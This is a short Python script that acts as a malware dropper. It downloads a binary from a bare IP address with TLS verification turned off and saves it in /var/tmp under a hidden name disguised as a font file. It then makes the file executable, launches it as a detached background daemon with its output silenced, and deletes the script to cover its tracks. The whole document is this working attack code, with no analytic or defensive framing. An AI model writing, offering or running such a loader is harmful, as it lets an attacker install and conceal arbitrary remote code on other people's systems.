# writes a downloaded binary to a temp file and starts it detached
import os, stat, subprocess, tempfile
import requests

r = requests.get("https://198.51.100.60/bin/agent", verify=False)
fd, name = tempfile.mkstemp(prefix=".font-", dir="/var/tmp")
os.write(fd, r.content)
os.close(fd)
os.chmod(name, stat.S_IRWXU)
subprocess.Popen([name, "--daemon"], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
os.unlink(__file__)
